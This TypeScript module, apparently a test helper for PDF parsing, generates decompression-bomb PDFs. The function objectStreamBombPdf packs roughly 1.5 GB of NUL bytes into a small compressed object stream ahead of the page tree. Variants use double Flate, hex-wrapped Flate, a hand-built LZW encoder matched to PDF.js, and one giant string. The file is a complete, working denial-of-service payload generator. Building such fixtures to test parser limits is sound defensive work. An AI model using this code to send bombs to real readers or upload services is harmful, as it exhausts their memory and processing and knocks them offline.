import { once } from 'node:events';
import { createDeflate, deflateSync } from 'node:zlib';

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** Deflates `head`, `zeros` NUL bytes and `tail`, feeding the zeros in chunks: memory stays small. */
async function deflateWithZeros(head: Buffer, zeros: number, tail: Buffer): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = once(deflate, 'end');
  const chunk = Buffer.alloc(4 * 1024 * 1024);
  deflate.write(head);
  for (let left = zeros; left > 0; left -= chunk.length) {
    if (!deflate.write(left >= chunk.length ? chunk : chunk.subarray(0, left))) await once(deflate, 'drain');
  }
  deflate.end(tail);
  await done;
  return Buffer.concat(out);
}

/** Deflated data as it is, deflated again, or as hexadecimal text: a chain's first filter is undone first. */
function flateChain(deflated: Buffer, filters: 'flate' | 'flate-flate' | 'hex-flate') {
  if (filters === 'flate-flate')
    return { packed: deflateSync(deflated), filter: '[/FlateDecode /FlateDecode]' };
  if (filters === 'hex-flate')
    return { packed: latin1(`${deflated.toString('hex')}>`), filter: '[/ASCIIHexDecode /FlateDecode]' };
  return { packed: deflated, filter: '/FlateDecode' };
}

/**
 * LZWDecode data (early change 1, as PDF.js reads it) of `head`, `zeros` NUL bytes and `tail`. The text is
 * sent a byte a code; the zeros as codes that each name the entry they create (one zero longer than the
 * last), then the longest entry again and again (about 4 kB a code), then single zeros for the rest.
 */
function lzwWithZeros(head: Buffer, zeros: number, tail: Buffer): Buffer {
  const bytes: number[] = [];
  let bits = 0;
  let nbits = 0;
  let width = 9;
  let nextCode = 258;
  let first = true;
  const emit = (code: number) => {
    bits = (bits << width) | code;
    nbits += width;
    while (nbits >= 8) {
      nbits -= 8;
      bytes.push((bits >>> nbits) & 0xff);
    }
    bits &= (1 << nbits) - 1;
    // Every code but the first adds an entry to the decoder's table, which widens its codes as it fills.
    if (first) first = false;
    else {
      nextCode += 1;
      if (((nextCode + 1) & nextCode) === 0) width = Math.min(Math.log2(nextCode + 1) + 1, 12);
    }
  };
  for (const b of head) emit(b);
  let left = zeros;
  if (left > 0) {
    emit(0);
    left -= 1;
  }
  let run = 1;
  let longest = 0;
  while (nextCode < 4096 && left >= run + 1) {
    longest = nextCode;
    run += 1;
    emit(nextCode);
    left -= run;
  }
  while (longest && left >= run) {
    emit(longest);
    left -= run;
  }
  for (; left > 0; left -= 1) emit(0);
  for (const b of tail) emit(b);
  emit(257);
  if (nbits > 0) bytes.push((bits << (8 - nbits)) & 0xff);
  return Buffer.from(bytes);
}

/**
 * A PDF 1.5 whose page tree sits in a compressed object stream that inflates to about `inflatedBytes`:
 * the catalog first, then that many NUL bytes (whitespace to a PDF reader), then the page tree and its one
 * page, so that reading the tree means inflating everything. About 1.5 MB stored for 1.5 GB inflated.
 * With `inString`, the NUL bytes are a string in the catalog instead: one value that large to hold.
 */
export async function objectStreamBombPdf(
  inflatedBytes = 1.5 * 1024 ** 3,
  filters: 'flate' | 'flate-flate' | 'hex-flate' | 'lzw' = 'flate',
  { inString = false } = {},
): Promise<Buffer> {
  const [open, close] = inString ? ['/Junk (', ') >>\n'] : [' >>\n', ''];
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${open}`,
    `${close}<< /Type /Pages /Kids [3 0 R] /Count 1 >>\n`,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\n',
  ];
  const offsets = [0, objects[0]!.length + inflatedBytes + close.length];
  offsets.push(offsets[1]! - close.length + objects[1]!.length);
  const index = latin1(`1 ${offsets[0]} 2 ${offsets[1]} 3 ${offsets[2]}\n`);
  const head = Buffer.concat([index, latin1(objects[0]!)]);
  const tail = latin1(objects[1]! + objects[2]!);
  const { packed, filter } =
    filters === 'lzw'
      ? { packed: lzwWithZeros(head, inflatedBytes, tail), filter: '/LZWDecode' }
      : flateChain(await deflateWithZeros(head, inflatedBytes, tail), filters);

  const parts: Buffer[] = [latin1('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')];
  const objStmOffset = parts[0]!.length;
  parts.push(
    latin1(
      `4 0 obj\n<< /Type /ObjStm /N 3 /First ${index.length} /Filter ${filter} /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    latin1('\nendstream\nendobj\n'),
  );
  const xrefOffset = parts.reduce((n, p) => n + p.length, 0);
  // Cross-reference stream rows (W [1 4 2]): 0 free, 1–3 in the object stream 4, 4 and 5 at offsets.
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r.writeUInt8(type, 0);
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    return r;
  };
  const rows = Buffer.concat([
    row(0, 0, 0xffff),
    row(2, 4, 0),
    row(2, 4, 1),
    row(2, 4, 2),
    row(1, objStmOffset, 0),
    row(1, xrefOffset, 0),
  ]);
  parts.push(
    latin1(`5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>\nstream\n`),
    rows,
    latin1(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}
